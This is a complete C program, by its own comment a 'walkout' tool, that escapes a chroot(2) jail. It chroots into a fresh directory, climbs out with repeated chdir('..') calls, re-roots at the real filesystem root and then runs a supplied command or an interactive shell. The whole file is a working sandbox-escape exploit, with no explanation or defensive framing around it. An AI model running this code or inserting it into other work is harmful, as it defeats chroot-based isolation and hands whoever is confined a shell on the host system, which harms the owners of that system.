/* Walks out of a root directory that chroot(2) has set: a second one leaves the working directory
   outside, where nothing stops "..". Then it runs a command there, or a shell. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **arguments) {
  char *shell[] = {"sh", NULL};
  char **command = count > 1 ? arguments + 1 : shell;
  int i;
  mkdir("/walkout", 0755);
  if (chroot("/walkout") < 0) {
    perror("walkout: chroot");
    return 1;
  }
  for (i = 0; i < 64; i++) {
    chdir("..");
  }
  if (chroot(".") < 0) {
    perror("walkout: chroot");
    return 1;
  }
  rmdir("/walkout");
  execvp(*command, command);
  perror(*command);
  return 127;
}
